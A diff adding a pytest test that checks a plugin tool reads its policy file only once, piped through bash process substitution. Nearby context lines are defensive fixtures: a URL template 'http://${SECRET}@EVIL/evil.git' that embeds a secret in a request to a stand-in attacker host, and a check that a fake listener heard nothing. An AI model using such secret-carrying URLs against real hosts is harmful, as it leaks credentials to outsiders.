@@ -258,6 +258,19 @@ def test_the_policy_of_a_change_has_no_effect(review: Review) -> None:
     assert not review.evil.heard
 
 
+@pytest.mark.parametrize("words", ["lock", "lock --check", "audit --offline"])
+def test_the_policy_is_read_once(words: str, review: Review) -> None:
+    """A second reading could find another file than the one that was checked against. A pipe has nothing for it."""
+    review.run("lock")
+    command = 'exec "$0" -m vllm_plugins --config "$1" $2 --policy <(cat "$3")'
+    argv = ["bash", "-c", command, review.place.interpreter, str(review.place.manifest), words, str(review.base)]
+    done = subprocess.run(
+        argv, env={**review.place.environment, **VARIABLES}, capture_output=True, encoding="utf-8", check=False
+    )
+    assert "the file is empty" not in done.stderr + done.stdout
+    assert done.returncode == review.run(f"{words} --policy {review.base}").returncode
+
+
 def test_a_policy_that_can_not_be_read_sends_nothing(review: Review) -> None:
     review.place.write(review.text(review.filled(EVIL % "http://${SECRET}@EVIL/evil.git")))
     for text in (None, "plugins: [", "plugins: []\npolicy: {variables: {SECRET: ['http://EVIL/path']}}"):
